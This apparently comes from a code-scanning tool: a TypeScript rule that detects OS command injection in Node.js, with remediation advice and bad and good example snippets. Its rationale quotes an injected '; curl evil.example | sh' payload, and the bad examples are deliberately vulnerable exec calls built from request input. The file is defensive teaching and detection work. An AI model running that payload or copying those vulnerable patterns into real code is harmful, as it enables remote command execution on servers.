// Text from outside in a command line that a shell reads, followed from where it comes in.
import { defineCodeRule } from '../../src/gates/code/rule.ts';

export const rule = defineCodeRule({
  id: 'code/command-injection',
  title: 'Command line made from text from outside',
  rationale:
    'The shell reads the finished text, not the pieces: whoever sends one piece adds `; curl evil.example | sh` or `$(…)` and runs commands of their own with the rights of this process. The data was followed from where it comes in to the call, and no check on the way stops it.',
  remediation:
    "Run the program without a shell and hand each argument over by itself: `execFile('git', ['log', '--', branch])`. Put `--` before what could begin with a dash. Where a shell is needed, pass the text through the environment and write `\"$NAME\"` in a fixed script; or let through only what is in a list of known values.",
  severity: 'critical',
  confidence: 'high',
  blocks: true,
  cwe: [78, 77],
  references: [
    'https://cwe.mitre.org/data/definitions/78.html',
    'https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html',
    'https://nodejs.org/api/child_process.html#child_processexecfilefile-args-options-callback',
  ],
  examples: {
    bad: [
      {
        file: 'example.js',
        code: "const { exec } = require('child_process');\nconst http = require('http');\nhttp.createServer((req, res) => {\n  const host = new URL(req.url, 'http://localhost').searchParams.get('host');\n  exec('ping -c 1 ' + host, (error, out) => res.end(out));\n}).listen(80);",
      },
      {
        code: "import { execSync } from 'node:child_process';\nimport express from 'express';\nfunction log(branch: string) { return execSync(`git log ${branch}`); }\nexpress().get('/log', (req, res) => { res.send(log(req.query.branch)); });",
      },
      {
        file: 'example.js',
        code: "const cp = require('child_process');\nmodule.exports = function (dir, done) {\n  var command = 'ls -l ';\n  command += dir;\n  cp.exec(command, done);\n};",
      },
      {
        code: "import * as cp from 'child_process';\nimport { promisify } from 'node:util';\nconst run = promisify(cp.exec);\nexport const show = (file: string) => run('cat ' + file);",
      },
      {
        code: "import { spawn } from 'node:child_process';\nimport express from 'express';\nexpress().get('/build', (req, res) => { spawn('make', [req.query.target], { shell: true }); res.end(); });",
      },
      {
        code: "import { spawn } from 'node:child_process';\nexport const find = (name: string) => spawn('bash', ['-c', `find . -name ${name}`]);",
      },
      {
        code: "import cp from 'child_process';\nimport express from 'express';\nexpress().get('/add', (req, res) => { const list = ['git', 'add']; list.push(...req.query.files); res.json(String(cp.execSync(list.join(' ')))); });",
      },
    ],
    good: [
      {
        code: "import { execFile } from 'node:child_process';\nimport express from 'express';\nexpress().get('/log', (req, res) => { execFile('git', ['log', '--', req.query.branch], (error, out) => res.send(out)); });",
      },
      {
        file: 'example.js',
        code: "const { exec } = require('child_process');\nconst hosts = ['a.example', 'b.example'];\nmodule.exports = (host, done) => {\n  if (!hosts.includes(host)) throw new Error('unknown host');\n  exec('ping -c 1 ' + host, done);\n};",
      },
      {
        file: 'example.js',
        code: "const { exec } = require('child_process');\nmodule.exports = (port, done) => exec('lsof -i :' + Number(port), done);",
      },
      {
        code: "import { execSync } from 'node:child_process';\nconst flag = '--short';\nexport const head = execSync(`git rev-parse ${flag} HEAD`);",
      },
      { code: "import { execSync } from 'node:child_process';\nfor (const name of ['core', 'cli']) execSync(`npm run build -w ${name}`);" },
      {
        code: "import { exec } from 'node:child_process';\nimport { quote } from 'shell-quote';\nexport const show = (file: string) => exec(`cat ${quote([file])}`);",
      },
      { code: "const pattern = /a(b)/;\nexport const find = (text: string) => pattern.exec('x' + text);" },
      { code: "import { spawn } from 'node:child_process';\nexport const git = (args: string[]) => spawn('git', args, { shell: false });" },
    ],
  },
  match: {
    kind: 'flow',
    class: 'command',
    covers: [],
    harm: 'can run commands of their own',
    fix: 'Run the program without a shell and pass each argument by itself, as `execFile(program, [...])` does; put `--` before arguments that could begin with a dash.',
  },
});
